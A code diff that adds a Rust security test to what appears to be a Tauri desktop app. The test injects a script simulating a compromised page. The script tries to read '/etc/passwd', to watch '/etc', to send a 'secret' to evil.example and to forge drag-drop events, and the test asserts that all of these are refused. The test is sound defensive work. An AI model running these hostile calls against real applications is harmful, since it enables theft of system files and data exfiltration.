@@ -57,6 +57,30 @@ async fn the_page_reaches_no_network_and_runs_no_foreign_script() {
 }
 
 #[tokio::test]
+async fn a_page_that_was_taken_over_names_no_file_and_sends_nothing_out() {
+    let room = Room::with(&["One"]);
+    let session = room.start_with_all_taken_in().await;
+    let attempt = "window.tries = []; const { invoke } = window.__TAURI_INTERNALS__; \
+         const ask = (name, what) => invoke(name, what).then(() => window.tries.push(`${name} got through`), \
+           () => window.tries.push(`${name} refused`)); \
+         const progress = '__CHANNEL__:7'; const dropped = { what: 'dropped', token: 'forged', items: 1 }; \
+         ask('take_in', { chosen: '/etc', progress }); ask('take_in', { paths: ['/etc'], progress }); \
+         ask('open_refused', { file: '/etc/passwd' }); ask('watch_folders', { chosen: '/etc' }); \
+         ask('save_settings', { changed: { watched: ['/etc'] } }); \
+         ask('open_link', { id: 1, url: 'https://evil.example/?secret' }); \
+         ask('plugin:event|emit', { event: 'dragged', payload: dropped }); \
+         ask('plugin:event|emit', { event: 'tauri://drag-drop', payload: { paths: ['/etc'], position: { x: 1, y: 1 } } }); \
+         const base = document.createElement('base'); base.href = 'https://evil.example/'; document.head.append(base);";
+    session.script(attempt).await.unwrap();
+    session.wait_until("all tries ended", "window.tries.length === 8").await.unwrap();
+    let tries: Vec<String> = serde_json::from_value(session.script("return window.tries").await.unwrap()).unwrap();
+    assert!(tries.iter().all(|tried| tried.ends_with("refused")), "{tries:?}");
+    let base = session.script("return document.baseURI").await.unwrap();
+    assert!(base.as_str().unwrap().starts_with("tauri://"), "addresses lead elsewhere: {base}");
+    session.close().await.unwrap();
+}
+
+#[tokio::test]
 async fn files_are_picked_in_the_systems_dialog() {
     let room = Room::with(&["Reef robots count coral"]);
     let session = room.start().await;
